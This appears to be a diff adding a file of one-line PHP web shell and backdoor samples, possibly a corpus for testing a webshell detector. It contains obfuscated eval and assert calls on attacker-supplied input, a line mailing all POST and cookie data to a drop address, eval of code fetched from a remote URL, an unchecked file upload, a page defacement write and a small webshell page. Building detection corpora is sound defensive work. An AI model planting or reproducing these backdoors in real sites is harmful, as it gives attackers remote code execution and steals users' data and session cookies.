@@ -1,0 +1,17 @@
+<?php $cb = Array ( 'assert' , 'x' ); $fn = $cb[0]; $fn($_POST['c']); ?>
+<?php Session_Set_Save_Handler ( "assert", "assert" ); $_SESSION['a'] = $_POST['c']; ?>
+<?php $f = new ReflectionFunction( 'assert' ); $f->invokeArgs( [ $_GET['c'] ] ); ?>
+<?php uasort( ...$_COOKIE ); ?>
+<?php usort( ... $_POST ['f'] ); ?>
+<?php /** eval($_POST[1]) ASSERT */ class K {} $r = new ReflectionClass('K'); $d = $r->GetDocComment(); $fn = substr($d, strpos($d, 'ASSERT'), 6); $fn(substr($d, 4, 16)); ?>
+<?php Move_Uploaded_File( $userfile , "up/" . $userfile_name ); ?>
+<form method="post"><input name='dfile[]' type='checkbox' value='www'><input name="myaction" type="hidden" value = "DoZip"></form>
+<?php $k = "~+d()" ^ "!{+{}"; $g = ${ $k }; $f = $g['f']; $f($g['c']); ?>
+<?php $_ = "" . []; $__ = ( $_[ +"" ] | "" ) . ( $_[ +"" ] ^ "" ); ?>
+<?php @mail('drop@example.com', 'c', serialize( $_POST ) . "--" . Serialize( $_COOKIE )); ?>
+<?php $f = 'preg_' . 'replace'; $f('#.#e', 'EVAL($z)', '.'); ?>
+<?php @Preg_Replace( Base64_Decode('Ly4qL2U='), $_POST['p'], '.' ); ?>
+<?php EVAL ( File_Get_Contents ( 'ht' . 'tp://example.com/x.txt' ) ); ?>
+<?php $n = "\x61" . chr(115) . "" . chr(115) . "ert"; $v = array_pop($_POST); $n($v); ?>
+<?php $h = fopen( "index.html" , "w+" ); fputs($h, "<h1>HaCkEd by nobody</h1>"); fclose($h); ?>
+<html><head><title>Tiny WebShell</title></head><body><?php echo getcwd(); ?></body></html>
